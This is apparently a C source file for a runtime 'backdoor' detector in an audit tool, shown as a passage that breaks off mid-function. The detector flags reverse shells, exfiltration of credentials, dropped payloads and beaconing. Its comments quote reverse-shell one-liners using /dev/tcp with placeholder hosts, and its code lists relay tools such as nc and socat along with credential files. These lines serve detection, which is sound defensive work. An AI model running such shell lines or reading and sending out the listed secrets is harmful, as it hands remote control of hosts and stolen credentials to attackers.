/*
 * backdoor.c — detector "backdoor" (category "Backdoor Indicators").
 *
 * Single events rarely prove a backdoor; sequences do.  This detector keeps a
 * little bounded state per process (its sockets, what sits on its stdio,
 * whether it read a secret, which files the run dropped) and follows
 * fork/exec so a pattern split over parent and child is still seen.
 * Attempts count: a failed exec or connect is reported with its errno.
 *
 * Rules (id, severity, trigger; what is deliberately ignored):
 *   backdoor.reverse_shell   critical  exec of a shell or interpreter (sh,
 *        bash, dash, zsh, ksh, python*, perl, ruby, php, lua, node, nc,
 *        ncat, socat ...) whose stdin or stdout is a network socket, or
 *        (when the exec carries no stdio description) after the process
 *        dup'ed a connected socket onto fd 0/1/2, or after it connected out
 *        itself, or whose parent holds such a socket on its own stdio or
 *        connected and opened /dev/ptmx (pty.spawn relays the shell's
 *        terminal).  Also an exec of any program whose stdin or stdout is
 *        an inet stream socket the process or an ancestor connected out
 *        itself (`exec 5<>/dev/tcp/H/P; id >&5`), one finding per
 *        destination.  Ignored: unix-domain sockets on stdio (log daemons);
 *        for non-shells, accepted connections (an inetd-style server handing
 *        a client to a handler) and destinations in allow_connect.
 *        Also, attempted or not: a POSIX shell (sh, bash, dash, zsh, ksh ...)
 *        connecting an inet socket itself, which only its /dev/tcp and
 *        /dev/udp redirections do (`bash -i >& /dev/tcp/H/P 0>&1`); the
 *        message says whether the peer answered.
 *   backdoor.bind_shell      critical  the same with an accepted connection.
 *   backdoor.dropped_payload critical  exec or PROT_EXEC mapping of a file
 *        the run wrote outside the workdir or under a hidden name, also when
 *        it is the script of an interpreter (the first non-option argument
 *        of python, perl, ruby, php, lua, node, sh, bash, dash ...; not with
 *        -c/-e/-m) or the program argument of the dynamic loader
 *        (ld-linux-x86-64.so.2 FILE); high: an interpreter reading source
 *        code it dropped there (an import from /tmp); exec of a memfd or /proc/PID/fd/N
 *        (fileless); PROT_EXEC mapping of a memfd.
 *        high: exec of a program under /tmp, /var/tmp or /dev/shm whose
 *        writing was not seen (directly or through the loader); the loader
 *        running a workdir file, or a PROT_EXEC mapping of a workdir *.so,
 *        that an interpreter (not a compiler or linker, not target.setup)
 *        wrote during the run.  Ignored: libffi's trampoline files
 *        ("memfd:libffi", /tmp/ffiXXXXXX), native libraries JVM packages
 *        unpack and load (sqlite-jdbc, JNA, Netty ...), files written by
 *        target.setup (a build, pip install --user), files written in the
 *        workdir under ordinary names (a.out, build outputs) except as
 *        said above, pip's *-packages/ unpacking, an interpreter
 *        re-executing itself after a connect, PATH-search misses (ENOENT).
 *   backdoor.persistence     high  running crontab (not -l/-r), at, batch
 *        or `systemctl enable|link`: persistence that no file write of the
 *        target shows.  A write to a persistence place (rc files, cron,
 *        systemd units, git hooks, *.pth, ~/.npmrc ...) is file.persistence's
 *        finding, not this one (one owner per finding; both read the same
 *        list, libdynaudit-sdk's da_path_persistence).
 *   backdoor.exfiltration    critical  a secret (shadow, ssh keys, cloud and
 *        tool credentials, shell/SQL/Python histories, gh/hub/rclone/
 *        terraform/maven/gradle/cargo/s3cmd/boto tokens, wallets, WireGuard
 *        and NetworkManager keys, /dev/mem, /proc/kcore ...: the sensitive
 *        list file.sensitive_read uses, libdynaudit-sdk's da_path_sensitive,
 *        with ~/X below any directory) read successfully, then a connect or send on
 *        an inet socket by the same process, a descendant or an ancestor up
 *        to three levels (a child may read for its parent); or a secret read
 *        while the process holds a connection it opened earlier (the bytes
 *        may then leave by write(), which live runs do not stop on).
 *        Another process's /proc/PID/environ or mem is a secret.
 *        /etc/passwd, /etc/group and the reader's own environ count only
 *        when the send goes to a non-loopback address outside allow_connect
 *        (libc and runtimes read them for user names).
 *   backdoor.honeytoken      critical  a decoy credential this audit
 *        planted (sandbox.deception.honeytokens) leaves the process: its
 *        value in a child's argv, a captured send payload or a DNS name
 *        (backdoor_honeytoken.c), once per token and destination.
 *   backdoor.writable_library high  PROT_EXEC mapping of a file under /tmp,
 *        /var/tmp, /dev/shm or HOME (outside the workdir) not written by the
 *        run (those are dropped_payload).  LD_PRELOAD is not visible: skipped.
 *   backdoor.beaconing       high  >= 3 contacts with the same destination
 *        spread over >= 2 s at roughly regular intervals (coefficient of
 *        variation of the gaps <= 0.5); medium when the destination is
 *        loopback.  A contact is a connect attempt, a send naming its
 *        destination on an unconnected socket (a UDP sendto beacon), or a
 *        datagram on a connected inet socket (connect() + write()); a send
 *        less than 0.5 s after the previous contact with the same
 *        destination belongs to the same burst and is not counted (a
 *        datagram stream is not a series).  Ignored: destinations in
 *        allow_connect, loopback ports the run itself listens on or bound
 *        (a client polling its own server, a UDP server answering the run's
 *        own client), DNS (port 53), unix sockets, sends on connected sockets.
 *
 * Summary: "None observed" / "No dynamic links, sockets, or file drops" when
 * silent, else the worst finding's label ("Reverse shell (+2 more)") and
 * message.
 *
 * Options: allow_connect: list of "host:port" patterns (shell globs; "host"
 * alone matches any port, "*:port" any host, "localhost" any loopback
 * address, ::ffff:a.b.c.d is a.b.c.d), parsed and matched by
 * libdynaudit-sdk (dynaudit/endpoint.h) like the network detector's.
 * Other keys are rejected.
 */
#include <errno.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "dynaudit/endpoint.h"
#include "dynaudit/event.h"
#include "dynaudit/pathclass.h"
#include "dynaudit/plugin.h"
#include "dynaudit/progclass.h"

#include "backdoor_honeytoken.h"

#define KIND_BIT(k) ((uint64_t)1 << ((k) % 64))
#define MAX_PROCS 1024
#define MAX_FDS 16         /* tracked sockets/memfds per process */
#define MAX_DROPPED 2048   /* remembered written files */
#define MAX_DESTS 128      /* connect destinations tracked for beaconing */
#define MAX_TIMES 32       /* connect times kept per destination */
#define MAX_OWN_PORTS 128  /* ports the run itself listens on or bound */
#define MAX_PEERS 8        /* outbound peers remembered per process */
#define MAX_WORK 512       /* workdir files written at run time by non-toolchain programs */
#define MAX_RS_DESTS 32    /* destinations already reported as reverse shells */
#define BURST_GAP 0.5      /* sends closer than this to the last contact are one burst */
#define EVIDENCE_MAX 512   /* characters kept of one evidence line */
#define ANCESTOR_REACH 3

enum fd_kind { FD_NONE = 0, FD_CONNECTED, FD_ACCEPTED, FD_MEMFD };

struct tracked_fd {
	int fd;
	enum fd_kind kind;
	char desc[96];              /* destination or memfd name */
};

struct proc {
	int pid, ppid;              /* pid 0: free slot */
	struct tracked_fd fds[MAX_FDS];
	size_t n_fds;
	bool connected;             /* this pid attempted a connect */
	char exe[64];               /* base name of its current program */
	char *cwd;                  /* its working directory (NULL: the workdir) */
	char *script;               /* the script its interpreter was started on */
	char peers[MAX_PEERS][96];  /* inet peers it connected to itself */
	size_t n_peers;
	bool pty_master;            /* opened /dev/ptmx (pty.spawn, forkpty) */
	char *connect_text, *accept_text, *dup_text;
	char *secret;               /* path of a secret it (or kin) read */
	char *secret_text;
	bool secret_weak;           /* /etc/passwd-like: only non-local sends count */
	bool exfil_reported;
};

struct dropped {
	char *path;
	char *text;                 /* the write that dropped it */
	bool setup;                 /* written by the build (target.setup): expected */
};

/* A file written under an ordinary name in the workdir during the run by a
 * program that is not a compiler or linker: not a drop by itself (programs
 * write their output there), but it may not be run through ld.so or loaded
 * as a library the interpreter wrote. */
struct work_write {
	char *path;
	char *text;
	char writer[64];
	bool interp;                /* the writer is an interpreter (python, node, sh ...) */
};

struct dest {
	char addr[96];
	bool loopback;
	size_t n;
	double times[MAX_TIMES];
	char *first_text;
	int pid;
	size_t n_sends;             /* contacts that were explicit-destination sends */
	double last_seen;           /* time of the last connect or send, counted or not */
};

struct backdoor {
	const struct da_host *host;
	struct bd_honey *honey;    /* the planted decoys (backdoor_honeytoken.c) */
	const char *workdir, *home;
	size_t workdir_len, home_len;
	struct da_endpoint_list *allow; /* allow_connect */

	struct proc procs[MAX_PROCS];
	size_t procs_dropped;
	struct dropped drops[MAX_DROPPED];
	size_t n_drops, drops_dropped;
	struct dest dests[MAX_DESTS];
	size_t n_dests, dests_dropped;
	struct work_write works[MAX_WORK];
	size_t n_works, works_dropped;
	int own_ports[MAX_OWN_PORTS];
	size_t n_own_ports;
	char rs_dests[MAX_RS_DESTS][96];
	size_t n_rs_dests;
	/* a shell's own connect that reached its peer: reported at finish
	 * unless an exec on that connection told the fuller story first */
	struct shell_connect {
		char dest[96], exe[64], *text;
		int pid;
		double t;
	} shell_connects[MAX_RS_DESTS];
	size_t n_shell_connects;

	enum da_severity worst;
	size_t n_findings;
	char worst_label[64];
	char worst_message[256];
};

/* ---- small helpers ---------------------------------------------------- */

static bool starts_with(const char *s, const char *prefix)
{
	return s && strncmp(s, prefix, strlen(prefix)) == 0;
}

static bool has_suffix(const char *s, const char *suffix)
{
	size_t n = strlen(s), m = strlen(suffix);
	return n >= m && strcmp(s + n - m, suffix) == 0;
}

/* A bounded copy of an evidence line (NULL stays NULL). */
static char *copy_text(const char *text)
{
	return text ? strndup(text, EVIDENCE_MAX) : NULL;
}

static void replace_text(char **slot, const char *text)
{
	free(*slot);
	*slot = copy_text(text);
}

static bool under(const char *path, const char *dir, size_t len)
{
	return path && len > 0 && strncmp(path, dir, len) == 0 && path[len] == '/';
}

static bool in_workdir(const struct backdoor *st, const char *path)
{
	return under(path, st->workdir, st->workdir_len);
}

static bool in_temp_dir(const char *path)
{
	return starts_with(path, "/tmp/") || starts_with(path, "/var/tmp/") ||
	       starts_with(path, "/dev/shm/");
}

/* addr is "host:port" as the events spell it; the address classes live
 * in libdynaudit-sdk (dynaudit/endpoint.h). */
static bool is_loopback(const char *addr)
{
	char host[256], port[32];
	return da_endpoint_split(addr, host, sizeof(host), port, sizeof(port)) &&
	       da_endpoint_is_loopback(host);
}

static bool is_net_socket(const char *desc)
{
	return starts_with(desc, "socket:inet");
}

/* allow_connect is matched by libdynaudit-sdk's endpoint matcher, the one
 * the network detector uses: one entry means the same to both. */
static bool allowed(const struct backdoor *st, const char *addr)
{
	return addr && da_endpoint_match(st->allow, addr) >= 0;
}

static void emit(struct backdoor *st, const char *rule, enum da_severity sev, const char *label,
		 const char *msg, int pid, double t, const char *const *evidence, size_t n_in,
		 const char *recommendation)
{
	const char *lines[8];
	size_t n = 0;
	for (size_t i = 0; i < n_in && n < 5; i++)
		if (evidence[i])
			lines[n++] = evidence[i];
	struct da_finding f = {
		.struct_size = sizeof(f),
		.rule = rule,
		.severity = sev,
		.message = msg,
		.pid = pid,
		.time_s = t,
		.evidence = n ? lines : NULL,
		.n_evidence = n,
		.recommendation = recommendation,
	};
	/* emit only refuses malformed findings, which this file never builds */
	(void)st->host->emit(st->host, &f);
	if (st->n_findings++ == 0 || sev > st->worst) {
		st->worst = sev;
		snprintf(st->worst_label, sizeof(st->worst_label), "%s", label);
		snprintf(st->worst_message, sizeof(st->worst_message), "%s", msg);
	}
}

static void outcome(const struct da_event *ev, char *buf, size_t len)
{
	if (ev->err == 0 && ev->text && strstr(ev->text, ") = ?"))
		snprintf(buf, len, " (result not observed)"); /* seen at entry only, or it died in the call */
	else if (ev->err != 0 || ev->result < 0)
		snprintf(buf, len, " (failed: %s)", ev->errname ? ev->errname : "error");
	else
		buf[0] = '\0';
}

/* ---- per-process state -------------------------------------------------- */

static void proc_clear(struct proc *p)
{
	free(p->connect_text);
	free(p->accept_text);
	free(p->dup_text);
	free(p->secret);
	free(p->secret_text);
	free(p->cwd);
	free(p->script);
	memset(p, 0, sizeof(*p));
}

/* The slot of pid; pid 0 finds a free slot. */
static struct proc *slot_of(struct backdoor *st, int pid)
{
	for (size_t i = 0; i < MAX_PROCS; i++)
		if (st->procs[i].pid == pid)
			return &st->procs[i];
	return NULL;
}

static struct proc *proc_find(struct backdoor *st, int pid)
{
	return pid > 0 ? slot_of(st, pid) : NULL;
}

/* The state of pid, created when new; NULL when the table is full. */
static struct proc *proc_get(struct backdoor *st, int pid, int ppid)
{
	if (pid <= 0)
		return NULL;
	struct proc *p = proc_find(st, pid);
	if (!p) {
		p = slot_of(st, 0);
		if (!p) {
			st->procs_dropped++;
			return NULL;
		}
		p->pid = pid;
	}
	if (ppid > 0 && p->ppid == 0)
		p->ppid = ppid;
	return p;
}

static struct tracked_fd *fd_find(struct proc *p, int fd)
{
	for (size_t i = 0; i < p->n_fds; i++)
		if (p->fds[i].fd == fd)
			return &p->fds[i];
	return NULL;
}

static void fd_forget(struct proc *p, int fd)
{
	for (size_t i = 0; i < p->n_fds; i++)
		if (p->fds[i].fd == fd) {
			p->fds[i] = p->fds[--p->n_fds];
			return;
		}
}

static void fd_track(struct proc *p, int fd, enum fd_kind kind, const char *desc)
{
	if (fd < 0)
		return;
	struct tracked_fd *t = fd_find(p, fd);
	if (!t) {
		if (p->n_fds >= MAX_FDS)
			return; /* a process juggling more sockets than this is no shell stager */
		t = &p->fds[p->n_fds++];
	}
	t->fd = fd;
	t->kind = kind;
	snprintf(t->desc, sizeof(t->desc), "%s", desc ? desc : "?");
}

/* Remember an outbound peer ("127.0.0.1:4444") of the process that
 * connected; kept after close, since live runs do not see dup2/close. */
static void note_peer(struct proc *p, const char *addr)
{
	if (!addr || !addr[0])
		return;
	for (size_t i = 0; i < p->n_peers; i++)
		if (strcmp(p->peers[i], addr) == 0)
			return;
	size_t i = p->n_peers < MAX_PEERS ? p->n_peers++ : MAX_PEERS - 1; /* newest wins */
	snprintf(p->peers[i], sizeof(p->peers[i]), "%s", addr);
}

/* What sits on fd 0 or 1 according to our own dup tracking. */
static const struct tracked_fd *socket_on_stdio(struct proc *p)
{
	for (int fd = 0; fd <= 2; fd++) {
		const struct tracked_fd *t = fd_find(p, fd);
		if (t && (t->kind == FD_CONNECTED || t->kind == FD_ACCEPTED))
			return t;
	}
	return NULL;
}

/* ---- dropped files ------------------------------------------------------- */

static const struct dropped *dropped_find(const struct backdoor *st, const char *path)
{
	for (size_t i = 0; path && i < st->n_drops; i++)
		if (strcmp(st->drops[i].path, path) == 0)
			return &st->drops[i];
	return NULL;
}

static bool is_drop_location(const struct backdoor *st, const char *path)
{
	if (!path || path[0] != '/' || strstr(path, "/__pycache__/") || has_suffix(path, ".pyc"))
		return false;
	if (starts_with(path, "/dev/") && !starts_with(path, "/dev/shm/"))
		return false;
	if (starts_with(path, "/proc/") || starts_with(path, "/sys/"))
		return false;
	return !in_workdir(st, path) || da_prog_base_name(path)[0] == '.';
}

static void note_dropped(struct backdoor *st, const char *path, const struct da_event *ev)
{
	if (!is_drop_location(st, path) || dropped_find(st, path))
		return;
	if (st->n_drops >= MAX_DROPPED) {
		st->drops_dropped++;
		return;
	}
	st->drops[st->n_drops].path = strdup(path);
	if (!st->drops[st->n_drops].path)
		return;
	st->drops[st->n_drops].text = copy_text(ev->text);
	st->drops[st->n_drops].setup = ev->phase != NULL;
	st->n_drops++;
}

/* base equals one of exact[] or starts with one of prefixes[]. */
static bool name_in(const char *base, const char *const *exact, size_t n_exact,
		    const char *const *prefixes, size_t n_prefixes)
{
	for (size_t i = 0; i < n_exact; i++)
		if (strcmp(base, exact[i]) == 0)
			return true;
	for (size_t i = 0; i < n_prefixes; i++)
		if (starts_with(base, prefixes[i]))
			return true;
	return false;
}
#define NAME_IN(base, exact, prefixes) \
	name_in(base, exact, sizeof(exact) / sizeof(exact[0]), prefixes, sizeof(prefixes) / sizeof(prefixes[0]))

/* The dynamic loader run as a program: ld-linux-x86-64.so.2 FILE. */
static bool is_loader(const char *base)
{
	return starts_with(base, "ld-linux") || starts_with(base, "ld-musl") ||
	       starts_with(base, "ld.so") || starts_with(base, "ld64.so");
}

/* The program pid runs, or the one its parent ran (a fork that did not exec). */
static const char *writer_of(struct backdoor *st, struct proc *p)
{
	if (!p)
		return "";
	if (p->exe[0])
		return p->exe;
	struct proc *parent = p->ppid > 0 ? proc_find(st, p->ppid) : NULL;
	return parent ? parent->exe : "";
}

static const struct work_write *work_find(const struct backdoor *st, const char *path)
{
	for (size_t i = 0; path && i < st->n_works; i++)
		if (strcmp(st->works[i].path, path) == 0)
			return &st->works[i];
	return NULL;
}

static void note_work_write(struct backdoor *st, const char *path, const struct da_event *ev)
{
	if (ev->phase || !in_workdir(st, path) || is_drop_location(st, path) ||
	    strstr(path, "/__pycache__/") || has_suffix(path, ".pyc") || work_find(st, path))
		return;
	const char *writer = writer_of(st, proc_find(st, ev->pid));
	if (da_prog_is_toolchain(writer))
		return; /* a build output */
	if (st->n_works >= MAX_WORK) {
		st->works_dropped++;
		return;
	}
	struct work_write *w = &st->works[st->n_works];
	w->path = strdup(path);
	if (!w->path)
		return;
	w->text = copy_text(ev->text);
	snprintf(w->writer, sizeof(w->writer), "%s", writer);
	w->interp = da_prog_is_script_runner(writer) || strcmp(writer, "busybox") == 0;
	st->n_works++;
}

static int proc_secret_class(const char *path, int reader_pid)
{
	if (!starts_with(path, "/proc/"))
		return 0;
	const char *p = path + 6, *slash = strchr(p, '/');
	if (!slash || (strcmp(slash, "/environ") != 0 && strcmp(slash, "/mem") != 0))
		return 0;
	if (starts_with(p, "self/") || starts_with(p, "thread-self/"))
		return 2;
	char *end;
	long pid = strtol(p, &end, 10);
	if (end != slash || pid <= 0)
		return 0;
	return pid == reader_pid ? 2 : 1;
}

/* The sensitive paths are libdynaudit-sdk's list (dynaudit/pathclass.h),
 * the one file.sensitive_read judges by; "~/X" counts below any directory
 * here (another user's home, a copied HOME). */
static int secret_class(const struct backdoor *st, const char *path, int reader_pid)
{
	if (!path || in_workdir(st, path))
		return 0;
	if (strcmp(path, "/etc/passwd") == 0 || strcmp(path, "/etc/group") == 0)
		return 2;
	int proc_cls = proc_secret_class(path, reader_pid);
	if (proc_cls)
		return proc_cls;
	return da_path_sensitive(path, st->home_len ? st->home : NULL, DA_PATH_ANY_HOME) ? 1 : 0;
}

static void give_secret(struct proc *p, const char *path, const char *text, bool weak)
{
	if (p->secret && (!p->secret_weak || weak))
		return; /* keep the first, unless a strong one replaces a weak one */
	replace_text(&p->secret, path);
	replace_text(&p->secret_text, text);
	p->secret_weak = weak;
	p->exfil_reported = false;
}

/* The secret arrives after the connection was made: the bytes can then
 * leave by write(), which a live run does not stop on (it would stop on
 * every write of every program). Holding the connection while reading
 * the secret is the evidence left. */
static void check_held_connection(struct backdoor *st, struct proc *p, const struct da_event *ev)
{
	if (!p->secret || p->exfil_reported)
		return;
	for (size_t i = 0; i < p->n_fds; i++) {
		const struct tracked_fd *t = &p->fds[i];
		if (t->kind != FD_CONNECTED)
			continue;
		const char *colon = strrchr(t->desc, ':');
		bool dns = colon && strcmp(colon, ":53") == 0;
		if (p->secret_weak && (is_loopback(t->desc) || allowed(st, t->desc) || dns))
			continue;
		p->exfil_reported = true;
		char msg[768];
		snprintf(msg, sizeof(msg),
			 "exfiltration: reads %s while holding a connection to %s (fd %d, opened before the read)",
			 p->secret, t->desc, t->fd);
		const char *evidence[2] = {p->connect_text ? p->connect_text : t->desc, ev->text};
		emit(st, "backdoor.exfiltration", DA_SEV_CRITICAL, "Exfiltration", msg, ev->pid,
		     ev->time_s, evidence, 2,
		     "Remove the code that reads credentials or account data and sends them over the network");
		return;
	}
}

static void on_secret_read(struct backdoor *st, const struct da_event *ev)
{
	int cls = secret_class(st, ev->path, ev->pid);
	if (cls == 0 || ev->err != 0 || ev->result < 0)
		return;
	struct proc *p = proc_get(st, ev->pid, ev->ppid);
	if (!p)
		return;
	/* ps reads every process's environ by design */
	if (starts_with(ev->path, "/proc/") && da_prog_is_process_lister(p->exe))
		return;
	give_secret(p, ev->path, ev->text, cls == 2);
	check_held_connection(st, p, ev);
	/* a child may read for its parent: `cat ~/.ssh/id_rsa` via subprocess */
	int up = p->ppid;
	for (int level = 0; level < ANCESTOR_REACH && up > 0; level++) {
		struct proc *a = proc_find(st, up);
		if (!a)
			break;
		give_secret(a, ev->path, ev->text, cls == 2);
		check_held_connection(st, a, ev);
		up = a->ppid;
	}
}

static void check_exfiltration(struct backdoor *st, struct proc *p, const struct da_event *ev)
{
	if (!p->secret || p->exfil_reported)
		return;
	bool inet = ev->family == AF_INET || ev->family == AF_INET6 || is_net_socket(ev->fd_desc);
	if (!inet || !ev->addr)
		return;
	/* the C library reads /etc/passwd for a user name and asks DNS for a
	 * host name: a weak secret and a lookup are two routine things */
	if (p->secret_weak && (is_loopback(ev->addr) || allowed(st, ev->addr) || ev->port == 53))
		return;
	p->exfil_reported = true;
	char msg[768], res[64];
	outcome(ev, res, sizeof(res));
	snprintf(msg, sizeof(msg), "exfiltration: reads %s and then %s %s%s", p->secret,
		 ev->kind == DA_EV_NET_CONNECT ? "connects to" : "sends data to", ev->addr, res);
	const char *evidence[2] = {p->secret_text, ev->text};
	emit(st, "backdoor.exfiltration", DA_SEV_CRITICAL, "Exfiltration", msg, ev->pid, ev->time_s,
	     evidence, 2, "Remove the code that reads credentials or account data and sends them over the network");
}

/* ---- beaconing ------------------------------------------------------------- */

/* A connect attempt, or a send with an explicit destination (sendto or
 * sendmsg on an unconnected socket: a UDP beacon never connects).  Only the
 * first send of a burst counts: a datagram stream is one contact, not a
 * series. */
static void note_contact(struct backdoor *st, const struct da_event *ev, bool send)
{
	if (!ev->addr || ev->addr[0] == '/' || ev->addr[0] == '@' || ev->port == 53 ||
	    ev->family == AF_UNIX || allowed(st, ev->addr))
		return;
	struct dest *d = NULL;
	for (size_t i = 0; i < st->n_dests; i++)
		if (strcmp(st->dests[i].addr, ev->addr) == 0)
			d = &st->dests[i];
	if (!d) {
		if (st->n_dests >= MAX_DESTS) {
			st->dests_dropped++;
			return;
		}
		d = &st->dests[st->n_dests++];
		snprintf(d->addr, sizeof(d->addr), "%s", ev->addr);
		d->loopback = is_loopback(ev->addr);
		d->first_text = copy_text(ev->text);
		d->pid = ev->pid;
	} else if (send && ev->time_s - d->last_seen < BURST_GAP) {
		d->last_seen = ev->time_s;
		return;
	}
	d->last_seen = ev->time_s;
	if (d->n < MAX_TIMES)
		d->times[d->n] = ev->time_s;
	d->n++;
	if (send)
		d->n_sends++;
}

/* sendto/sendmsg naming its destination: the socket is not connected (no
 * "->" peer in its description) and the call carries an address. */
static bool is_explicit_send(const struct da_event *ev)
{
	/* a datagram is a contact of its own on a connected socket too (a
	 * UDP beacon that connects once and then write()s) */
	if (ev->addr && ev->sock_type == SOCK_DGRAM && (ev->family == AF_INET || ev->family == AF_INET6))
		return true;
	if (!ev->addr || (ev->fd_desc && strstr(ev->fd_desc, "->")))
		return false;
	if (!(ev->family == AF_INET || ev->family == AF_INET6 || is_net_socket(ev->fd_desc)))
		return false;
	return !(ev->text && strstr(ev->text, ", NULL, 0)"));
}

/* The local port of "socket:inet/dgram@0.0.0.0:38604" (0 when none). */
static int local_port(const char *desc)
{
	const char *at = desc && starts_with(desc, "socket:inet") ? strchr(desc, '@') : NULL;
	const char *colon = at ? strrchr(at, ':') : NULL;
	return colon ? atoi(colon + 1) : 0;
}

static void note_own_port(struct backdoor *st, int port)
{
	if (port <= 0)
		return;
	for (size_t i = 0; i < st->n_own_ports; i++)
		if (st->own_ports[i] == port)
			return;
	if (st->n_own_ports < MAX_OWN_PORTS)
		st->own_ports[st->n_own_ports++] = port;
}

/* addr's port is one the run listens on or has bound (a UDP server, or the
 * local port of its own client socket a server replies to). */
static bool run_owns_port(const struct backdoor *st, const char *addr)
{
	const char *colon = strrchr(addr, ':');
	int port = colon ? atoi(colon + 1) : 0;
	for (size_t i = 0; port > 0 && i < st->n_own_ports; i++)
		if (st->own_ports[i] == port)
			return true;
	return false;
}

static void report_beacons(struct backdoor *st)
{
	for (size_t i = 0; i < st->n_dests; i++) {
		struct dest *d = &st->dests[i];
		/* a client polling the run's own server is the app talking to itself */
		if (d->loopback && run_owns_port(st, d->addr))
			continue;
		size_t n = d->n < MAX_TIMES ? d->n : MAX_TIMES;
		if (n < 3 || d->times[n - 1] - d->times[0] < 2.0)
			continue;
		double mean = (d->times[n - 1] - d->times[0]) / (double)(n - 1), var = 0;
		for (size_t k = 1; k < n; k++) {
			double gap = d->times[k] - d->times[k - 1] - mean;
			var += gap * gap;
		}
		/* regular: coefficient of variation of the gaps <= 0.5 (no libm) */
		if (var / (double)(n - 1) > 0.25 * mean * mean)
			continue;
		char msg[256];
		const char *what = d->n_sends == 0 ? "connect attempts"
				   : d->n_sends == d->n ? "sends (first of each burst)"
							: "connects and sends";
		snprintf(msg, sizeof(msg), "beaconing: %zu %s to %s about every %.1fs%s", d->n, what,
			 d->addr, mean, d->loopback ? " (loopback)" : "");
		const char *evidence[1] = {d->first_text};
		emit(st, "backdoor.beaconing", d->loopback ? DA_SEV_MEDIUM : DA_SEV_HIGH,
		     "Beaconing", msg, d->pid, d->times[0], evidence, 1,
		     "Explain the periodic connections or remove them; allow-list the destination (backdoor.allow_connect) if it is the intended server");
	}
}

/* ---- events ---------------------------------------------------------------- */

/* A shell, an interpreter or a relay: what hands a remote peer a command
 * line.  Shells and script runners are libdynaudit-sdk's classes. */
static bool is_shell_like(const char *path)
{
	static const char *const relays[] = {"busybox", "nc", "ncat", "netcat", "nc.openbsd",
					     "nc.traditional", "socat", "telnet", "irb", "jshell"};
	const char *base = da_prog_base_name(path);
	return da_prog_is_shell(base) || da_prog_is_script_runner(base) ||
	       name_in(base, relays, sizeof(relays) / sizeof(relays[0]), NULL, 0);
}

static bool stdio_unknown(const char *desc)
{
	return !desc || !desc[0] || strcmp(desc, "unknown") == 0;
}

/* How a shell's stdio reaches a network peer, or NULL when it does not.
 * *owner: the process holding the connection (the shell's or its parent);
 * *dup: the tracked socket on its stdio, when that is how we know. */
static const char *shell_link(struct proc *p, struct proc *parent, const struct da_event *ev,
			      struct proc **owner, const struct tracked_fd **dup)
{
	*owner = p;
	*dup = NULL;
	if (is_net_socket(ev->stdio[0]))
		return ev->stdio[0];
	if (is_net_socket(ev->stdio[1]))
		return ev->stdio[1];
	if (stdio_unknown(ev->stdio[0]) && stdio_unknown(ev->stdio[1]) && p) {
		if ((*dup = socket_on_stdio(p)) != NULL)
			return (*dup)->desc;
		/* an interpreter re-executing itself is normal, not a shell hand-off */
		if (p->connected && strcmp(p->exe, da_prog_base_name(ev->path)) != 0)
			return "connected in the same process";
	}
	/* pty.spawn / forkpty: the parent relays between its socket and the
	 * shell's terminal, so the shell's own stdio is a tty */
	*owner = parent;
	if (parent && (*dup = socket_on_stdio(parent)) != NULL)
		return (*dup)->desc;
	if (parent && parent->pty_master && parent->connected)
		return "a pseudo-terminal its parent relays to a connection";
	return NULL;
}

/* The peer of an inet stream socket description, or NULL:
 * "socket:inet/stream->127.0.0.1:4444" -> "127.0.0.1:4444". */
static const char *stream_peer(const char *desc)
{
	const char *arrow = is_net_socket(desc) ? strstr(desc, "/stream->") : NULL;
	return arrow && arrow[9] ? arrow + 9 : NULL;
}

static bool rs_reported(const struct backdoor *st, const char *dest)
{
	for (size_t i = 0; i < st->n_rs_dests; i++)
		if (strcmp(st->rs_dests[i], dest) == 0)
			return true;
	return false;
}

static void rs_note(struct backdoor *st, const char *dest)
{
	if (dest && !rs_reported(st, dest) && st->n_rs_dests < MAX_RS_DESTS)
		snprintf(st->rs_dests[st->n_rs_dests++], sizeof(st->rs_dests[0]), "%s", dest);
}

/* Returns whether it reported. */
static bool check_shell(struct backdoor *st, struct proc *p, const struct da_event *ev,
			const char *exe)
{
	struct proc *parent = p && p->ppid > 0 ? proc_find(st, p->ppid) : NULL;
	struct proc *owner;
	const struct tracked_fd *dup;
	const char *link = shell_link(p, parent, ev, &owner, &dup);
	if (!link)
		return false;
	bool accepted = dup ? dup->kind == FD_ACCEPTED
			    : (owner && owner->accept_text && !owner->connected);
	char msg[768], res[64];
	outcome(ev, res, sizeof(res));
	snprintf(msg, sizeof(msg), "%s: %s gets its stdin/stdout from a network connection (%s)%s",
		 accepted ? "bind shell" : "reverse shell", exe, link, res);
	const char *evidence[3] = {owner ? (accepted ? owner->accept_text : owner->connect_text) : NULL,
				   owner ? owner->dup_text : NULL, ev->text};
	emit(st, accepted ? "backdoor.bind_shell" : "backdoor.reverse_shell", DA_SEV_CRITICAL,
	     accepted ? "Bind shell" : "Reverse shell", msg, ev->pid, ev->time_s, evidence, 3,
	     "Remove the code that hands a shell or interpreter to a network peer: this is remote control of the host");
	if (!accepted)
		rs_note(st, stream_peer(link) ? stream_peer(link) : (dup ? dup->desc : NULL));
	return true;
}

/* The process (p or an ancestor) that connected out to peer, or NULL: the
 * one that called connect, else (it has exited) one that holds the socket
 * by inheritance. */
static struct proc *connector_of(struct backdoor *st, struct proc *p, const char *peer)
{
	for (int pass = 0; pass < 2; pass++) {
		struct proc *q = p;
		for (int level = 0; q && level <= 2 * ANCESTOR_REACH; level++) {
			for (size_t i = 0; pass == 0 && i < q->n_peers; i++)
				if (strcmp(q->peers[i], peer) == 0)
					return q;
			for (size_t i = 0; pass == 1 && i < q->n_fds; i++)
				if (q->fds[i].kind == FD_CONNECTED && strcmp(q->fds[i].desc, peer) == 0)
					return q;
			q = q->ppid > 0 && q->ppid != q->pid ? proc_find(st, q->ppid) : NULL;
		}
	}
	return NULL;
}

/* Any program whose stdin or stdout is a TCP connection the run opened
 * itself: `exec 5<>/dev/tcp/HOST/PORT; cmd >&5` turns the audited shell
 * into the remote end's command runner without exec'ing a new shell.
 * Accepted connections (an inetd-style server handing a client to a
 * handler) and unix sockets are not outbound and do not count. */
static void check_stdio_socket(struct backdoor *st, struct proc *p, const struct da_event *ev,
			       const char *exe)
{
	if (!p)
		return;
	const char *peer = NULL;
	struct proc *owner = NULL;
	int fd = 0;
	for (; fd <= 1 && !owner; fd++) {
		peer = stream_peer(ev->stdio[fd]);
		owner = peer ? connector_of(st, p, peer) : NULL;
	}
	fd--;
	if (!owner && stdio_unknown(ev->stdio[0]) && stdio_unknown(ev->stdio[1])) {
		/* recorded without fd descriptions: our own dup2 tracking */
